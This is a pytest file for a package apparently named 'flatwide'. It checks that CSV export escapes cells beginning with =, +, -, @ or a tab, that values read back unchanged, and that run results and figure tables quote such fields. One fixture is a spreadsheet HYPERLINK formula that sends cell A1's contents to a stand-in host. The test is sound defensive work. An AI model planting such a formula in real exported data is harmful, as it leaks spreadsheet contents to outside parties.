"""No cell of a CSV file is a formula, and each is read back as it was."""

import csv

import pytest

from flatwide import csv_cells
from flatwide.figures.tables import to_csv
from flatwide.report import csv_table
from flatwide.runs.directory import RunDirectory
from flatwide.runs.table import write_results

FORMULA = '=HYPERLINK("http://a.b/?"&A1,"gain")'
TEXTS = [FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "'=1", "''=1", "'quoted'", "plain", "(300,100)", "-", "'", ""]


@pytest.mark.parametrize("text", TEXTS)
def test_text_is_read_back_and_begins_like_no_formula(text):
    assert csv_cells.decode(csv_cells.encode(text)) == text
    assert not csv_cells.encode(text).startswith(("=", "+", "-", "@", "\t"))


def test_numbers_are_left_as_they_are():
    assert [csv_cells.encode(value) for value in (-0.5, 3, True, None)] == [-0.5, 3, True, None]


def test_tables_of_figures_quote_cells_and_names(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(to_csv([{"@name": FORMULA, "gain": -0.25}, {"@name": "'-1", "gain": None}]))
    assert next(csv.reader(path.read_text().splitlines())) == ["'@name", "gain"]
    assert f"'{FORMULA[:10]}" in path.read_text()
    table = csv_table.read(path)
    assert table["@name"].tolist() == [FORMULA, "'-1"]
    assert table["gain"][0] == -0.25


def test_results_quote_the_fields_of_a_run(tmp_path):
    run = RunDirectory(tmp_path / "runs" / "a-00000000")
    run.write_config({"mine": FORMULA, "rho": 0.1}, identity={"mine": FORMULA})
    row = next(csv.DictReader(write_results(tmp_path).read_text().splitlines()))
    assert FORMULA not in row.values()
